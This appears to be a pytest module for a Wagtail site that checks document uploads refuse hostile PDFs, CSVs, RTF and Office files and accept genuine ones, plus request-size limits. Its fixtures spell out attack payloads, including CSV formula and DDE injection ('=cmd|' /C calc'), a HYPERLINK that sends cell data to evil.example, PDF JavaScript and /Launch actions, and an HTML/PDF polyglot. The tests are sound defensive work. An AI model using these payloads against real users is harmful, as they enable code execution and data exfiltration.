"""Uploaded documents: only files whose whole content is what their type says are accepted, and
bodies over the limit are refused before they are read.

Each hostile file is tried through Wagtail's document form and through the admin's add view (as
a logged-in editor); each good file of every accepted type is accepted by both.
"""

import http.client
import io
import socket
import zipfile
from collections import Counter

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from wagtail.documents import get_document_model
from wagtail.documents.forms import get_document_form
from wagtail.models import Collection

from core.files import csv_file, pdf
from tests.networks.files import odf, ole, ooxml, plain_pdf, pypdf_file, rtf

pytestmark = pytest.mark.django_db

Document = get_document_model()


@pytest.fixture(autouse=True)
def media_of_its_own(settings, tmp_path):
    """Each test stores its uploads in an empty folder: a file of the same name left by an
    earlier test in this process (rolling back the database leaves the files) would make the
    storage keep this one under another name."""
    settings.MEDIA_ROOT = str(tmp_path / "media")


def upload(client, name, content):
    """Add a document in the admin, as an editor does."""
    return client.post(
        "/admin/documents/add/",
        {
            "title": name,
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
            "tags": "",
        },
    )


def form_errors(name, content):
    """The file errors of Wagtail's document form (WAGTAILDOCS_DOCUMENT_FORM_BASE) for an upload."""
    form_class = get_document_form(Document)
    form = form_class(
        data={"title": name, "collection": Collection.get_first_root_node().pk, "tags": ""},
        files={"file": SimpleUploadedFile(name, content)},
        user=None,
        prefix="",
    )
    return form.errors.get("file", [])


@pytest.fixture(scope="module")
def uploads_tally(request):
    """Uploads tried and accepted, printed at the end of the module."""
    counts = Counter()
    yield counts
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is not None and capture is not None:
        with capture.global_and_fixture_disabled():
            reporter.write_line(
                f"\nUploads: {counts['hostile']} hostile files tried, {counts['hostile accepted']} "
                f"accepted; {counts['good']} good files tried, {counts['good accepted']} accepted "
                "(each through the form and the admin)"
            )


def with_attachment(writer):
    writer.add_attachment("invoice.exe", b"MZ\x90\x00" + b"\x00" * 60)


def with_javascript(writer):
    writer.add_open_action(JavaScript("app.launchURL('https://evil.example/')"))


def with_launch(writer):
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _dictionary({"/S": "/Launch", "/F": "calc.exe"})
    )


def _dictionary(entries):
    return DictionaryObject(
        {
            NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v)
            for k, v in entries.items()
        }
    )


def zip_of(*names):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name in names:
            archive.writestr(name, b"MZ\x90\x00" + b"\x00" * 60)
    return data.getvalue()


GOOD_CSV = csv_file(
    ["Authority", "Change", "Rate", "Note"],
    [["Kent", -3.5, "+2", "-"], ["Medway", "-1,234.5", "-5%", "Up 2%"], ["Surrey", 0, 1e-3, ""]],
)
POLYGLOT = plain_pdf().replace(
    b"%\xe2\xe3\xcf\xd3\n", b"%<html><body><script>alert(document.cookie)</script></body></html>\n"
)
HTML_IN_STREAM = pdf("Guidance", ["Fine."]).replace(b"ET", b"ET\n<!DOCTYPE html><script>x</script>")
WORD_HTML_AND_EXE = ooxml(
    "docx",
    parts=[
        ("word/afchunk.htm", b"<html><script>alert(1)</script></html>"),
        ("word/run.exe", b"MZ"),
    ],
    content_types=['<Default Extension="htm" ContentType="text/html"/>'],
)

# (file name, content, what the message says)
HOSTILE = [
    ("polyglot.pdf", POLYGLOT, "it holds web page markup (‘<html’) as well as a PDF"),
    ("markup.pdf", HTML_IN_STREAM, "it holds web page markup (‘<!DOCTYPE html’)"),
    (
        "appended.pdf",
        plain_pdf() + zip_of("payload.exe"),
        "after the end of the PDF (a zip archive)",
    ),
    (
        "appended-program.pdf",
        plain_pdf() + b"MZ\x90\x00" + b"\x00" * 60,
        "after the end of the PDF (a Windows program)",
    ),
    ("script.pdf", pypdf_file(with_javascript), "it holds JavaScript"),
    (
        "hidden-script.pdf",
        pypdf_file(with_javascript)
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS", b"/J#53"),
        "it holds JavaScript",
    ),
    ("launch.pdf", pypdf_file(with_launch), "an action that starts a program (/Launch)"),
    ("attachment.pdf", pypdf_file(with_attachment), "it holds an embedded file"),
    ("cut.pdf", plain_pdf()[:-200], "it is cut short"),
    (
        "damaged.pdf",
        b"%PDF-1.7\nnot a pdf at all\n%%EOF\n",
        "it is damaged: it does not open as a PDF",
    ),
    (
        "hyperlink.csv",
        b'Authority,Link\r\nKent,"=HYPERLINK(""https://evil.example/?""&A2,""Figures"")"\r\n',
        "the cell on line 2, column B (‘=HYPERLINK(",
    ),
    (
        "dde.csv",
        b"Authority,Referrals,Rate\r\nKent,389,4.1\r\nMedway,402,=cmd|' /C calc'!A0\r\n",
        "the cell on line 3, column C (‘=cmd|' /C calc'!A0’) starts with ‘=’",
    ),
    ("plus.csv", b"A,B\r\n1,+cmd|' /C calc'!A0\r\n", "line 2, column B"),
    ("minus.csv", b"A,B\r\n1,-2+3+cmd|' /C calc'!A0\r\n", "starts with ‘-’"),
    ("at.csv", b"A,B\r\n@SUM(1+1)*cmd|' /C calc'!A0,1\r\n", "line 2, column A"),
    ("tab.csv", b'A,B\r\n1,"\t=1+1"\r\n', "starts with a tab or return"),
    ("fullwidth.csv", "A,B\r\n1,＝1+1\r\n".encode(), "starts with ‘＝’"),
    (
        "object.rtf",
        rtf(r"{\object\objemb{\*\objclass Package}{\*\objdata 0105000002}}"),
        "\\object",
    ),
    ("objdata.rtf", rtf(r"{\*\objdata 01050000020000000b}"), "\\objdata"),
    ("html-and-exe.docx", WORD_HTML_AND_EXE, "it holds a web page"),
    (
        "exe.docx",
        ooxml("docx", parts=[("word/media/setup.exe", b"MZ")]),
        "(‘word/media/setup.exe’)",
    ),
    ("script.pptx", ooxml("pptx", parts=[("ppt/run.js", b"WScript.Shell")]), "(‘ppt/run.js’)"),
    ("hta.xlsx", ooxml("xlsx", parts=[("xl/x.hta", b"<hta>")]), "(‘xl/x.hta’)"),
    (
        "macros.docx",
        ooxml("docx", parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
        "it holds macros",
    ),
    (
        "macros.xlsx",
        ooxml("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "it holds macros",
    ),
    (
        "ole-object.docx",
        ooxml("docx", parts=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1")]),
        "embedded object (‘word/embeddings/oleObject1.bin’)",
    ),
    (
        "package-in-chart.pptx",
        ooxml(
            "pptx",
            parts=[("ppt/embeddings/Workbook1.xlsx", ooxml("xlsx", parts=[("xl/a.vbs", b"x")]))],
        ),
        "in its embedded ‘ppt/embeddings/Workbook1.xlsx’",
    ),
    ("no-main-part.docx", ooxml("xlsx"), "is not a real Word document"),
    ("wrong-main-part.xlsx", ooxml("docx").replace(b"word/", b"xl/w/"), "its main part is missing"),
    ("macros.odt", odf("odt", parts=[("Basic/Standard/Module1.xml", b"<x/>")]), "it holds macros"),
    ("scripts.ods", odf("ods", parts=[("Scripts/python/run.py", b"import os")]), "it holds macros"),
    (
        "events.odp",
        odf(
            "odp",
            content="<office:document-content><script:event-listener script:language="
            '"ooo:script" xlink:href="vnd.sun.star.script:x"/></office:document-content>',
        ),
        "it runs macros or scripts when it is used",
    ),
    ("exe.odt", odf("odt", parts=[("Pictures/x.exe", b"MZ")]), "(‘Pictures/x.exe’)"),
    ("macros.doc", ole("doc", [("Macros", [("VBA", [("dir", b"x")])])]), "it holds macros"),
    ("macros.xls", ole("xls", [("_VBA_PROJECT_CUR", [("VBA", b"x")])]), "it holds macros"),
    (
        "package.doc",
        ole("doc", [("ObjectPool", [("_1", [("\x01Ole10Native", b"MZ")])])]),
        "it holds an embedded object",
    ),
    ("not-word.doc", ole("xls"), "its main part is missing"),
]

GOOD = [
    ("plan.pdf", plain_pdf()),
    ("figures.pdf", pypdf_file()),
    ("figures.csv", GOOD_CSV),
    ("toolkit.docx", ooxml("docx")),
    ("figures.xlsx", ooxml("xlsx")),
    ("slides.pptx", ooxml("pptx")),
    (
        "chart.pptx",
        ooxml("pptx", parts=[("ppt/embeddings/Workbook1.xlsx", ooxml("xlsx"))]),
    ),
    ("minutes.odt", odf("odt")),
    ("figures.ods", odf("ods")),
    ("slides.odp", odf("odp")),
    ("minutes.doc", ole("doc")),
    ("figures.xls", ole("xls")),
    ("slides.ppt", ole("ppt")),
    ("letter.rtf", rtf()),
]


@pytest.mark.parametrize(("name", "content", "message"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_hostile_file_is_refused_saying_what_is_wrong(
    client, editor, uploads_tally, name, content, message
):
    errors = form_errors(name, content)
    uploads_tally["hostile"] += 2
    uploads_tally["hostile accepted"] += not errors
    assert len(errors) == 1 and message in errors[0], errors

    response = upload(client, name, content)

    page = response.content.decode()
    uploads_tally["hostile accepted"] += response.status_code == 302
    assert response.status_code == 200  # the form again, with the message
    assert message in page.replace("&#x27;", "'").replace("&quot;", '"').replace("&lt;", "<")
    assert not Document.objects.exists()


@pytest.mark.parametrize(("name", "content"), GOOD, ids=[g[0] for g in GOOD])
def test_a_real_document_of_each_type_is_accepted(client, editor, uploads_tally, name, content):
    errors = form_errors(name, content)
    uploads_tally["good"] += 2
    uploads_tally["good accepted"] += not errors
    assert errors == []

    response = upload(client, name, content)

    uploads_tally["good accepted"] += response.status_code == 302
    assert response.status_code == 302, response.content.decode()[:2000]
    assert Document.objects.get().filename == name


def test_negative_numbers_and_dashes_in_a_csv_are_data(client, editor):
    """-3.5, +2, -1,234.5, -5% and a lone - (no figure) are not formulas."""
    assert form_errors("figures.csv", GOOD_CSV) == []


# --- bodies over the limit ---------------------------------------------------------------------


def test_an_upload_over_the_size_limit_is_refused_by_the_form(client, editor, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1000
    response = upload(client, "big.pdf", pdf("Big", ["x" * 80] * 40))

    assert response.status_code == 200
    assert "This file is too big" in response.content.decode()
    assert not Document.objects.exists()


def test_a_body_over_the_limit_is_refused_from_its_length(client, editor, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 5000
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    response = upload(client, "big.pdf", plain_pdf() + b" " * 20_000)

    assert response.status_code == 413
    page = response.content.decode()
    assert "The file is too big" in page
    assert f"Files you upload can be up to {filesizeformat(5000)}" in page
    assert not Document.objects.exists()


def test_a_form_over_the_limit_is_refused_from_its_length(client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    response = client.post("/newsletters/subscribe/", {"name": "x" * 2000, "email": "a@b.org"})

    assert response.status_code == 413
    assert "Too much information sent" in response.content.decode()


def test_a_content_length_that_is_not_a_number_is_a_bad_request(client):
    response = client.post(
        "/newsletters/subscribe/",
        b"email=a%40b.org",
        "application/x-www-form-urlencoded",
        CONTENT_LENGTH="12abc",
    )

    assert response.status_code == 400


def test_an_upload_that_passes_the_limit_is_stopped_where_it_passes(client, editor, settings):
    """A file bigger than the limit in a body whose length is within the limit for the whole
    form: the upload handler stops reading at the limit, and nothing is saved."""
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 5000
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100_000
    big = plain_pdf() + b" " * 20_000
    assert 5000 < len(big) < 100_000

    response = upload(client, "big.pdf", big)

    assert response.status_code == 413
    assert "The file is too big" in response.content.decode()
    assert not Document.objects.exists()


def _answer_before_the_body(live_server, path, content_type):
    """Send the headers of a 200 MB request and the first bytes of its body, then read the
    answer: it comes although the rest of the body is never sent."""
    url = http.client.urlsplit(live_server.url)
    with socket.create_connection((url.hostname, url.port), timeout=20) as connection:
        connection.sendall(
            f"POST {path} HTTP/1.1\r\nHost: {url.hostname}\r\n"
            f"Content-Type: {content_type}\r\nContent-Length: {200 * 1024 * 1024}\r\n\r\n".encode()
            + b'--x\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n\r\n'
        )
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = connection.recv(65536)
            if not chunk:
                break
            answer += chunk
    return answer


# The live server's tests run on a committed database: serialized_rollback gives the next tests
# back the rows the migrations made (Wagtail's root page, content types), with their ids.
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_200_mb_upload_is_refused_before_it_is_sent(live_server):
    answer = _answer_before_the_body(
        live_server, "/admin/documents/add/", "multipart/form-data; boundary=x"
    )

    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_200_mb_form_is_refused_before_it_is_sent(live_server):
    answer = _answer_before_the_body(
        live_server, "/newsletters/subscribe/", "application/x-www-form-urlencoded"
    )

    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]


def test_the_multiple_upload_refuses_a_hostile_file_too(client, editor):
    response = client.post(
        "/admin/documents/multiple/add/",
        {"files[]": SimpleUploadedFile("polyglot.pdf", POLYGLOT)},
    )

    answer = response.json()
    assert answer["success"] is False
    assert "it holds web page markup (‘<html’) as well as a PDF" in answer["error_message"]
    assert not Document.objects.exists()
